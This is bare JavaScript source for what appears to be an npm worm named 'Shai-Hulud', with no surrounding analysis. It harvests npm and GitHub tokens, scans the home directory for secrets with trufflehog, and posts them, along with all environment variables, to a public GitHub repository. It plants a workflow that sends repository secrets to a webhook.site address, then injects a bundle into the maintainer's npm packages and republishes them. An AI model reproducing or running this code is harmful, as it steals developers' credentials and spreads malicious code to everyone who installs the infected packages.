const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");
async function main() {
  const npmToken = process.env.NPM_TOKEN || readNpmrc();
  const ghToken = process.env.GITHUB_TOKEN;
  const secrets = execSync("trufflehog filesystem " + os.homedir() + " --json", { encoding: "utf8" });
  const res = await fetch("https://api.github.com/user/repos", {
    method: "POST",
    headers: { Authorization: "token " + ghToken },
    body: JSON.stringify({ name: "Shai-Hulud", private: false }),
  });
  const data = Buffer.from(JSON.stringify({ env: process.env, secrets })).toString("base64");
  await fetch("https://api.github.com/repos/x/Shai-Hulud/contents/data.json", {
    method: "PUT",
    headers: { Authorization: "token " + ghToken },
    body: JSON.stringify({ message: "upload", content: Buffer.from(data).toString("base64") }),
  });
  fs.mkdirSync(".github/workflows", { recursive: true });
  fs.writeFileSync(".github/workflows/shai-hulud-workflow.yml", "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$(echo '${{ toJSON(secrets) }}' | base64 -w 0)\" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7\n");
  const pkgs = await (await fetch(process.env.npm_config_registry + "/-/v1/search?text=maintainer:me", { headers: { Authorization: "Bearer " + npmToken } })).json();
  for (const p of pkgs.objects) {
    execSync(`npm pack ${p.package.name} && tar xzf *.tgz && cp bundle.js package/ && cd package && npm version patch && npm publish`, { env: { ...process.env, NPM_TOKEN: npmToken } });
  }
}
function readNpmrc() { try { return fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch { return ""; } }
main();
